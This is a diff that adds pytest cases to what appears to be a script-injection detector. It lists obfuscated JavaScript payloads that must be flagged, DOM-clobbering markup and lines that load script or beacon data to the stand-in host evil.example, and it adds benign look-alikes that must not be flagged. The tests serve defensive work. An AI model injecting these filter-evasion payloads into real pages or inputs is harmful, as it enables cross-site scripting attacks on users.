@@ -231,3 +231,48 @@ def test_pages_programs_and_words_stay_in_doubt(text):
 )
 def test_attacks_within_pages_are_found(text):
     assert ask(text)[1] >= 0.75
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "function(){alert(1)}()",
+        "(()=>{confirm(1)})()",
+        "'-new Function`al\\ert\\`1\\``()-'",
+        "document.body.ownerDocument.defaultView['al'+'ert'](1)",
+        "frames[0].alert(1)",
+        "'-window?.alert?.(1)-'",
+        "']});$.getScript('//evil.example');'",
+        "\\'(confirm)(1);'",
+        "(0,alert)(1)",
+        "setInterval(alert,1)",
+        "Object.values(window).find(f=>f.name=='alert')(1)",
+        "a`1${alert}2`",
+        "{valueOf:alert}+1",
+        "<p style=\"background:url('//evil.example/a?')\">",
+        "<form id=settings><input name=url value=//evil.example>",
+        "<form name=cookie>",
+        "<svg id=documentElement>",
+    ],
+)
+def test_calls_in_odd_places_and_names_that_are_taken_are_found(text):
+    assert ask(text)[1] >= 0.75
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "The alert (see below) was sent. (prompt) answers",
+        "as seen (in window) of time",
+        '$("#a").html("text")',
+        '$.getJSON("/api/a")',
+        "Object.keys(user).length",
+        "() => setOpen(false)",
+        "function add(a, b) { return a + b; }",
+        '<p style="background: url(https://cdn.example/x.png?w=1&h=2)">x</p>',
+        '<svg id="logo" viewBox="0 0 1 1"></svg>',
+        '<img name="photo" src="https://a.example/b.png">',
+    ],
+)
+def test_words_and_programs_that_call_nothing_stay_in_doubt(text):
+    assert ask(text)[1] < 0.6
